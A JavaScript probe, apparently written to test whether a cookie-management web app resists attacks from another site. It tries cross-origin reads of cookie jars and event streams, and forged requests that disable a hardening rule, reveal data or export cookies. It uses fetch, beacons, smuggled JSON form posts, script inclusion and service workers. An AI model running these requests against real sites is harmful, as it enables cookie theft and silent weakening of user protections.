/* What a page can try against another site: run in the attacker's page with the other site's base URL. Tells what it could read. */
async (base) => {
  const SECONDS = 15;
  const read = [];
  const note = (how, what) => what !== null && what !== undefined && what !== "" && read.push(`${how}: ${String(what).slice(0, 200)}`);
  const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds, null));
  const soon = (promise) => Promise.race([promise, pause(SECONDS * 1000)]).catch(() => null);
  const loaded = (tag, attributes) =>
    new Promise((resolve) => {
      const element = document.createElement(tag);
      element.onload = () => resolve(element);
      element.onerror = () => resolve(null);
      Object.assign(element, attributes);
      document.body.append(element);
    });
  const text = (answer) => answer.text();
  const victim = { site: "victim.example", client: null };
  const changes = [
    ["api/forget", victim],
    ["api/rules/mode", { rule: "harden", mode: "observe" }],
    ["api/reveal", { id: window.victimId }],
    ["api/export", { format: "netscape", client: window.victimClient, site: null }],
  ];
  const reads = ["api/jars", "api/events", "api/clients", "api/rules", "api/setup", "metrics"];
  const tries = [];
  const attempt = (how, promise) => tries.push(soon(promise).then((what) => note(how, what)));

  for (const withCredentials of [true, false])
    attempt(
      "EventSource",
      new Promise((resolve) => {
        const source = new EventSource(base + "api/stream", { withCredentials });
        source.onopen = source.onmessage = (event) => resolve(event.type);
        source.addEventListener("events", (event) => resolve(event.data));
        source.onerror = () => (source.close(), resolve(null));
      }),
    );
  const answers = [];
  addEventListener("message", ({ data }) => answers.push(JSON.stringify(data)));
  const opened = open(base + "jars", "mark");
  const isThere = () => {
    try {
      return opened.location.href !== "about:blank";
    } catch {
      return true;
    }
  };
  const look = async () => {
    while (!isThere()) await pause(50);
    await pause(300);
    opened.postMessage({ type: "GET", url: "api/jars" }, "*");
    const looks = [(one) => one.document.body.innerText, (one) => one.location.href, (one) => one.localStorage.length, (one) => one.name];
    for (const one of looks) {
      try {
        note("opened window", one(opened));
      } catch {
        /* as it should be */
      }
    }
    note("frames of the window", opened.length || null);
    await pause(200);
    note("answers of the window", answers.join());
    opened.close();
  };
  tries.push(look());
  for (const credentials of ["include", "omit"]) {
    for (const name of reads) {
      attempt(`fetch ${credentials} ${name}`, fetch(base + name, { credentials }).then(text));
      attempt(`no-cors ${credentials} ${name}`, fetch(base + name, { credentials, mode: "no-cors" }).then(text));
    }
    for (const [name, said] of changes) {
      const body = JSON.stringify(said);
      const json = { "Content-Type": "application/json", "X-Cookies": "1" };
      attempt(`post ${credentials} ${name}`, fetch(base + name, { method: "POST", credentials, body }).then(text));
      attempt(`no-cors post ${name}`, fetch(base + name, { method: "POST", mode: "no-cors", credentials, body }).then(text));
      attempt(`json ${name}`, fetch(base + name, { method: "POST", credentials, headers: json, body }).then(text));
      attempt(`PUT ${name}`, fetch(base + name, { method: "PUT", credentials, headers: json, body }).then(text));
    }
  }
  for (const withCredentials of [true, false])
    attempt(
      `XHR ${withCredentials}`,
      new Promise((resolve) => {
        const asks = Object.assign(new XMLHttpRequest(), { withCredentials, onload: () => resolve(asks.responseText), onerror: () => resolve(null) });
        asks.open("GET", base + "api/jars");
        asks.send();
      }),
    );
  for (const [name, said] of changes) {
    const body = JSON.stringify(said);
    navigator.sendBeacon(base + name, body);
    for (const type of ["text/plain", "application/x-www-form-urlencoded"]) navigator.sendBeacon(base + name, new Blob([body], { type }));
    try {
      navigator.sendBeacon(base + name, new Blob([body], { type: "application/json" }));
    } catch {
      /* some browsers refuse it themselves */
    }
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      const frame = document.body.appendChild(document.createElement("iframe"));
      frame.name = `into-${name}-${enctype}`;
      const form = Object.assign(document.createElement("form"), { action: base + name, method: "POST", enctype, target: frame.name });
      form.append(Object.assign(document.createElement("input"), { name: `${body.slice(0, -1)},"x":"`, value: '"}' }));
      document.body.append(form);
      form.submit();
      attempt(`form ${enctype} ${name}`, pause(1500).then(() => frame.contentDocument?.body?.innerText));
    }
    attempt(`link to ${name}`, loaded("img", { src: `${base}${name}?${new URLSearchParams(said)}` }).then((image) => image && "loaded"));
  }
  for (const name of ["api/jars", "static/app.js", "static/theme.js", "metrics"]) {
    attempt(`script ${name}`, loaded("script", { src: base + name }).then((script) => script && "ran"));
    attempt(`module ${name}`, loaded("script", { src: base + name, type: "module" }).then((script) => script && "ran"));
    attempt(`import ${name}`, import(base + name).then((module) => Object.keys(module).join() || "module"));
  }
  attempt("style", loaded("link", { rel: "stylesheet", href: `${base}static/own.css` }).then((link) => link && "applied"));
  attempt("prefetch", loaded("link", { rel: "prefetch", href: `${base}api/jars` }).then(() => null));
  attempt("image", loaded("img", { src: `${base}api/jars` }).then((image) => image && image.width));
  attempt("worker", new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob([`importScripts("${base}static/theme.js"); postMessage("ran")`])));
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = reject;
  }));
  attempt("service worker", (async () => (await navigator.serviceWorker.register(`${base}static/app.js`)).scope)());
  attempt("service worker of ours", (async () => (await navigator.serviceWorker.register("/worker.js", { scope: base })).scope)());
  for (const [tag, name] of [["iframe", "src"], ["object", "data"], ["embed", "src"]])
    attempt(tag, (async () => {
      const element = await soon(loaded(tag, { [name]: `${base}jars` }));
      return element?.contentDocument?.body?.innerText || element?.contentWindow?.frames.length || null;
    })());
  await Promise.all(tries);
  for (const entry of performance.getEntriesByType("resource"))
    if (entry.name.startsWith(base) && (entry.transferSize || entry.decodedBodySize)) note("size", `${entry.name} ${entry.decodedBodySize}`);
  window.results = read;
  return read;
};
